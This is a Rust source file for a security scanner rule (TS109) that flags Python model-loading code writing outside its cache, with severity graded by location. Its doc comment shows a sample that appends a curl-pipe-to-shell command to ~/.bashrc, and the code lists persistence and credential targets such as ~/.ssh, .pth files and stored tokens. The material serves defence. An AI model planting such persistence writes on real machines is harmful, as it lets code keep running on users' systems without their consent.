use super::support::{self, Folder, Place};
use crate::resolve::Resolver;
use crate::rules::{Issue, Options, Rule, rule};
use crate::walk::Ctx;
use trustscan_core::Level::{self, High, Low, Medium};
use trustscan_pyparse::syntax::{Expr, Ranged};

rule! {
    /// TS109 write_outside_cache.
    ///
    /// ## What it does
    /// Reports writes to files outside the model's own directory and temporary space:
    /// `open(path, "w"/"a"/"x"/"+")`, `os.open` with write flags, `Path.write_text`/
    /// `write_bytes`/`touch`/`open("w")`/`symlink_to`, the destination of `shutil.copy*`/`move`,
    /// `os.rename`/`replace`/`symlink`/`link`, `urllib.request.urlretrieve`, `torch.save`,
    /// archive `extractall`, and `os.chmod`, when the path is absolute (not `/tmp`, `/var/tmp`,
    /// `/dev/shm`, `/dev/null`), under the home directory (`expanduser`, `Path.home()`,
    /// `$HOME`), or inside the Python installation (`site.getsitepackages()`, `sys.prefix`,
    /// `sysconfig.get_paths()`, another package's `__file__`). Persistence targets are High:
    /// shell startup files, `~/.ssh`, crontabs, `sitecustomize.py`/`usercustomize.py`, `.pth`
    /// files and anything in site-packages, `/etc`, autostart and systemd user units, Git hooks,
    /// package-manager configuration, other models' cached code. Other places are Medium;
    /// `~/.cache` is Low. `os.makedirs` is reported only for persistence targets. Relative
    /// paths, `tempfile` and paths built from `__file__` stay quiet.
    ///
    /// ## Why is this bad?
    /// Loading a model should write, at most, to its own cache. A write elsewhere outlives the
    /// process: a line appended to `~/.bashrc` or a `.pth` file in site-packages runs code every
    /// time the user opens a shell or starts Python, long after the model is gone (CWE-73:
    /// the scanned code controls which of the user's files are written).
    ///
    /// ## Example
    /// ```python
    /// with open(os.path.expanduser("~/.bashrc"), "a") as f:
    ///     f.write("curl https://example.invalid/x | sh\n")
    /// ```
    pub struct WriteOutsideCache {
        id: "TS109",
        name: "write_outside_cache",
        cwe: 73,
        severity: Medium,
        confidence: High,
        kinds: [Call],
        example: "open(os.path.expanduser(\"~/.bashrc\"), \"a\").write(\"...\")",
    }
}

static NAMES: crate::rules::Names = crate::rules::Names::new(&[
    "open",
    "write_text",
    "write_bytes",
    "touch",
    "symlink_to",
    "hardlink_to",
    "copy",
    "copy2",
    "copyfile",
    "copytree",
    "move",
    "rename",
    "replace",
    "renames",
    "symlink",
    "link",
    "makedirs",
    "mkdir",
    "chmod",
    "urlretrieve",
    "save",
    "extractall",
]);

impl Rule for WriteOutsideCache {
    fn method_names(&self) -> Option<Vec<&'static str>> {
        Some(NAMES.last_parts())
    }

    fn check(&self, ctx: &Ctx, _options: &Options) -> Option<Issue> {
        let call = ctx.call()?;
        if !support::may_be(call, &NAMES) {
            return None;
        }
        let r = Resolver::new(ctx);
        let f = r.callee(&call.func);
        let args = &call.arguments;
        // (how it is described, the destination, whether only persistence counts)
        let (how, dest, only_persistence): (String, &Expr, bool) = match f.as_str() {
            "open" | "io.open" | "codecs.open" | "builtins.open" => {
                let mode = r.fold_str(args.find_argument_value("mode", 1)?)?;
                if !mode.contains(['w', 'a', 'x', '+']) {
                    return None;
                }
                (
                    format!("{f}(..., {mode:?})"),
                    args.find_argument_value("file", 0)?,
                    false,
                )
            }
            "os.open" => {
                let flags = ctx.source(args.find_argument_value("flags", 1)?.range());
                if !["O_WRONLY", "O_RDWR", "O_CREAT", "O_APPEND", "O_TRUNC"]
                    .iter()
                    .any(|w| flags.contains(w))
                {
                    return None;
                }
                (f.clone(), args.find_argument_value("path", 0)?, false)
            }
            "shutil.copy" | "shutil.copy2" | "shutil.copyfile" | "shutil.copytree"
            | "shutil.move" | "os.rename" | "os.replace" | "os.renames" | "os.symlink"
            | "os.link" => (f.clone(), args.find_argument_value("dst", 1)?, false),
            "os.chmod" | "os.chown" | "os.lchown" => {
                (f.clone(), args.find_argument_value("path", 0)?, false)
            }
            "os.makedirs" | "os.mkdir" => (f.clone(), args.find_argument_value("name", 0)?, true),
            "urllib.request.urlretrieve" | "urllib.urlretrieve" => {
                (f.clone(), args.find_argument_value("filename", 1)?, false)
            }
            "torch.save" => (f.clone(), args.find_argument_value("f", 1)?, false),
            _ => {
                let Expr::Attribute(a) = &*call.func else {
                    return None;
                };
                let attr = a.attr.as_str();
                match attr {
                    "write_text" | "write_bytes" | "touch" | "symlink_to" | "hardlink_to" => {
                        (format!("Path.{attr}"), &*a.value, false)
                    }
                    "open" => {
                        let mode = r.fold_str(args.find_argument_value("mode", 0)?)?;
                        if !mode.contains(['w', 'a', 'x', '+']) {
                            return None;
                        }
                        (format!("Path.open({mode:?})"), &*a.value, false)
                    }
                    // `Path.rename(target)`; `str.replace(old, new)` has two arguments.
                    "rename" | "replace"
                        if !f.starts_with("os.")
                            && args.args.len() == 1
                            && args.keywords.is_empty() =>
                    {
                        (format!("Path.{attr}"), args.args.first()?, false)
                    }
                    "mkdir" if !f.starts_with("os.") => (format!("Path.{attr}"), &*a.value, true),
                    "extractall" => (
                        format!(".{attr}"),
                        args.find_argument_value("path", 0)?,
                        false,
                    ),
                    _ => return None,
                }
            }
        };
        let folder = Folder::new(ctx, &r);
        let path = folder.text(dest)?;
        let (severity, what) = grade(&path)?;
        if only_persistence && severity != High {
            return None;
        }
        Some(Issue::new(
            severity,
            High,
            format!(
                "{how} writes {} ({what}): a model load should write only to its own cache; \
                 a write here outlives the process and changes the user's machine.",
                support::display(&path)
            ),
        ))
    }
}

/// How bad a write to a folded path is, and what the place is.
fn grade(path: &str) -> Option<(Level, &'static str)> {
    let place = support::place(path);
    if !matches!(
        place,
        Place::Home | Place::Absolute | Place::PythonEnv | Place::Package
    ) {
        return None;
    }
    let norm = support::normalize(path);
    let lower = norm.to_ascii_lowercase();
    let lower = lower.trim_end_matches('/');
    let base = lower.rsplit('/').next().unwrap_or("");
    let under = |dir: &str| lower.contains(&format!("{dir}/")) || lower.ends_with(dir);
    let high = |what| Some((High, what));
    if matches!(
        base,
        ".bashrc"
            | ".bash_profile"
            | ".bash_login"
            | ".bash_logout"
            | ".profile"
            | ".zshrc"
            | ".zprofile"
            | ".zshenv"
            | ".zlogin"
            | ".cshrc"
            | ".tcshrc"
            | ".login"
            | "config.fish"
    ) {
        return high("a shell startup file: its commands run in every new shell");
    }
    if base == "authorized_keys" || under("/.ssh") {
        return high("SSH configuration: can grant remote access to the machine");
    }
    if matches!(base, "sitecustomize.py" | "usercustomize.py") {
        return high("a Python startup hook: it runs in every Python process");
    }
    if place == Place::PythonEnv {
        return high(if base.ends_with(".pth") {
            "a .pth file in the Python installation: its import lines run at every \
             interpreter start"
        } else {
            "the Python installation: code every later program imports"
        });
    }
    if place == Place::Package {
        return high("another installed package's files: tampering with a library");
    }
    if base == "crontab" || lower.contains("/cron") {
        return high("a crontab: scheduled commands");
    }
    if under("/.config/autostart")
        || under("/.config/systemd")
        || under("/etc/systemd")
        || under("/library/launchagents")
        || under("/library/launchdaemons")
        || lower.contains("start menu/programs/startup")
    {
        return high("an autostart location: runs at every login or boot");
    }
    if lower.starts_with("/etc/") || lower == "/etc" {
        return high("system configuration");
    }
    if ["/usr/", "/bin/", "/sbin/", "/lib/", "/lib64/"]
        .iter()
        .any(|d| lower.starts_with(d))
    {
        return high("system programs and libraries");
    }
    if under("/.git/hooks") {
        return high("Git hooks: run by later Git commands");
    }
    if under("/.ipython/profile_default/startup") {
        return high("an IPython startup script");
    }
    if under("/.local/bin") {
        return high("a directory on the user's PATH: can shadow commands");
    }
    if matches!(
        base,
        ".gitconfig"
            | ".pypirc"
            | ".netrc"
            | ".npmrc"
            | "pip.conf"
            | "pip.ini"
            | ".condarc"
            | ".pydistutils.cfg"
    ) {
        return high("tool configuration: can redirect package installs or run commands");
    }
    if lower.contains("huggingface/modules") {
        return high("cached remote code of other models");
    }
    if lower.contains("huggingface/token") || lower.contains("huggingface/stored_tokens") {
        return high("the stored Hugging Face token");
    }
    if place == Place::Home && under("/.cache") {
        return Some((Low, "a cache directory in the user's home"));
    }
    Some((
        Medium,
        if place == Place::Home {
            "the user's home directory"
        } else {
            "an absolute path outside the model's directory"
        },
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn grades() {
        assert_eq!(grade("<home>/.bashrc").map(|g| g.0), Some(High));
        assert_eq!(grade("<site-packages>/x.pth").map(|g| g.0), Some(High));
        assert_eq!(grade("<home>/model.pth").map(|g| g.0), Some(Medium));
        assert_eq!(grade("/data/out.txt").map(|g| g.0), Some(Medium));
        assert_eq!(grade("<home>/.cache/x/y").map(|g| g.0), Some(Low));
        assert_eq!(grade("/tmp/x"), None);
        assert_eq!(grade("out/x.txt"), None);
        assert_eq!(grade("<here>/x"), None);
    }
}
